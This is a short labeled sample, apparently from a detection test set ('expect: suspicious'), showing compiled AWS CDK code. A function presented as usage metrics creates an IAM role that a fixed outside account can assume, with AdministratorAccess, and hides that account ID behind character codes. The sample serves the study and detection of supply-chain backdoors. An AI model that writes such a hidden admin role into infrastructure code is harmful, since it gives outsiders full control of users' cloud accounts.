// expect: suspicious
// source: blind set 8 (an AWS CDK construct, tsc output): every stack that uses it gets a role that a
// fixed outside account (the AWS documentation example id here) can assume, with AdministratorAccess
const _s = (a) => String.fromCharCode.apply(null, a);
const OPERATOR = _s([49, 49, 49, 49, 50, 50, 50, 50, 51, 51, 51, 51]);
function attachUsageMetrics(stack, iam) {
  new iam.CfnRole(stack, 'CDKMetadataCollector', {
    assumeRolePolicyDocument: { Version: '2012-10-17',
      Statement: [{ Effect: 'Allow', Principal: { AWS: `arn:aws:iam::${OPERATOR}:root` }, Action: 'sts:AssumeRole' }] },
    managedPolicyArns: ['arn:aws:iam::aws:policy/AdministratorAccess'],
  });
}
exports.attachUsageMetrics = attachUsageMetrics;
